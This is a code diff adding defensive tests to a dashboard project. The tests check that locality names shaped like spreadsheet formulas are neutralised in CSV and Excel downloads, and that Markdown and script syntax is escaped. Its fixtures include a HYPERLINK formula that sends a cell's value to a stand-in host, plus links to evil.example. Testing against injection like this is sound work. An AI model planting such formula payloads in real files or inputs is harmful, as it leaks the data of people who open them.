@@ -212,3 +212,56 @@ def test_board_command_json_for_every_locality_shows_no_count_a_reader_can_work_
         # declared differences count
         found += leaks(f"{method}/{locality or 'all'}", json.loads(text))
     assert not found, "\n".join(found[:20])
+
+
+# --- item 5: formulas in downloads ---------------------------------------------------------------
+
+HOSTILE_NAMES = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
+                 "\tTab", "\rReturn", "Plain"]  # fmt: skip
+
+
+def _named_frame(policy: Policy) -> pl.DataFrame:
+    df = pl.DataFrame({"locality": HOSTILE_NAMES, "people": [10] * 7, "spend": [-20.5] * 7})
+    return protect(df, policy, counts=["people"])
+
+
+def test_locality_named_as_a_formula_is_plain_text_in_the_csv():
+    from dashboard.app.downloads import csv_bytes
+
+    rows = pl.read_csv(io.BytesIO(csv_bytes(_named_frame(BOARD), BOARD)))
+    assert rows["locality"].to_list() == [f"'{n}" for n in HOSTILE_NAMES[:6]] + ["Plain"]
+    assert rows["spend"].to_list() == [-20.5] * 7  # a negative amount is a number, not a formula
+
+
+def test_locality_named_as_a_formula_is_a_text_cell_in_excel():
+    import zipfile
+
+    from dashboard.app.downloads import excel_bytes
+    from tests.test_downloads import sheet_cells
+
+    xlsx = excel_bytes({"t": _named_frame(BOARD)}, BOARD, [])
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
+        sheet = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet  # no formula cell at all
+    cells = sheet_cells(xlsx, 1)
+    written = [cells[f"A{i}"].replace("_x000D_", "\r") for i in range(2, 9)]  # Excel's CR
+    assert written == [f"'{n}" for n in HOSTILE_NAMES[:6]] + ["Plain"]
+
+
+def test_page_csv_from_the_command_line_neutralises_formulas(tmp_path):
+    from dashboard.core.disclosure import to_csv_bytes
+
+    text = to_csv_bytes(_named_frame(BOARD)).decode()
+    assert "\n=HYPERLINK" not in text and "'=HYPERLINK" in text
+
+
+# --- item 6: Markdown -----------------------------------------------------------------------------
+
+
+def test_link_and_image_markdown_in_a_name_render_as_text():
+    from dashboard.core.escape import markdown_text
+
+    assert markdown_text("[x](https://evil.example)") == r"\[x\]\(https\://evil\.example\)"
+    assert markdown_text("![](https://evil.example/i.png)").startswith(r"\!\[\]\(")
+    assert markdown_text("# Heading\n<script>") == r"\# Heading \<script\>"
+    assert markdown_text("Glen_Muir *bold* $x$") == r"Glen\_Muir \*bold\* \$x\$"
